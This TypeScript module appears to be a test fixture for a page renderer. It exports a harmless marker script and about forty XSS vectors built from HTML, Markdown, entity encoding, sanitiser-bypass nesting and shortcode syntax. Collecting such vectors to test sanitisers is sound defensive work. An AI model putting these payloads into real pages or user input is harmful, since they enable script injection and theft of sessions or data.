/** Reports where it ran, and tries to steal data. */
export const payload =
  "console.log('RAN '+self.origin);try{top.document.title='HIT'}catch{};try{localStorage.hit='1'}catch{};try{parent.parent.postMessage({kind:'open',path:'/hit.md'},'*')}catch{}";

const coded = (script: string): string => [...script].map((sign) => `&#${sign.codePointAt(0)};`).join('');

/** Ways to inject a script through Markdown, HTML, front matter and widgets, each as the body of a page. */
export const hostileBodies: readonly string[] = [
  `<script>${payload}</script>`,
  `<img src=x onerror="${payload}">`,
  `<svg onload="${payload}"></svg>`,
  `<svg><script>${payload}</script></svg>`,
  `<svg><animate onbegin="${payload}" attributeName=x dur=1s></svg>`,
  `<math><mtext></mtext><mglyph><style><img src onerror="${payload}"></style></mglyph></math>`,
  `<details open ontoggle="${payload}">x</details>`,
  `<video><source onerror="${payload}"></video>`,
  `<input autofocus onfocus="${payload}">`,
  `<iframe src="javascript:${payload.replaceAll('"', "'")}"></iframe>`,
  `<iframe srcdoc="<script>${payload.replaceAll('"', '&quot;')}</script>"></iframe>`,
  `<object data="data:text/html,<script>${payload}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>">`,
  `<form action="javascript:${payload.replaceAll('"', "'")}"><button autofocus>x</button></form>`,
  `<base href="javascript:/a/-alert(1)//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${payload.replaceAll('"', "'")}">`,
  `<link rel="stylesheet" href="data:text/css,*{background:url(javascript:alert(1))}">`,
  `<a id="first" href="javascript:${payload.replaceAll('"', "'")}">press</a>`,
  `[press](javascript:alert(1)) [press](JaVaScRiPt:alert(1)) [press](&#106;avascript:alert(1))`,
  `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![x](javascript:alert(1) "x\\" onerror=\\"${payload}")`,
  `<a href="vbscript:msgbox(1)">press</a> <javascript:alert(1)>`,
  `<p style="background:url('javascript:alert(1)')">styled</p>`,
  `<template><img src=x onerror="${payload}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${payload.replaceAll("'", '&#39;')}'>"></noscript>`,
  `<textarea><img title="</textarea><img src=x onerror='${payload.replaceAll("'", '&#39;')}'>"></textarea>`,
  `<xss onpointerenter=1 style="animation-name:x" onanimationstart="${payload}">x</xss>`,
  `<img src=x onerror=${coded(payload)}>`,
  `\`\`\`<img src=x onerror="${payload}">\ncode</code></pre><script>${payload}</script>\n\`\`\``,
  `{{< alert title="</p><script>${payload.replaceAll('"', "'")}</script>" >}}`,
  `{{< button text="<img src=x onerror=alert(1)>" link="javascript:alert(1)" >}}`,
  `{{< figure src="javascript:alert(1)" alt="\\"><script>alert(1)</script>" >}}`,
  `{{< html >}}<script>${payload}</script>{{< /html >}}`,
  `{{< nosuch "</p><script>${payload.replaceAll('"', "'")}</script>" >}}`,
  `# <img src=x onerror="${payload}"> {#x"onclick="alert(1)}`,
  `[^1]: <script>${payload}</script>\n\nx[^1]`,
  `| <script>${payload}</script> |\n| --- |\n| <img src=x onerror="${payload}"> |`,
  `<!--><script>${payload}</script>-->`,
  `<![CDATA[><script>${payload}</script>]]>`,
];
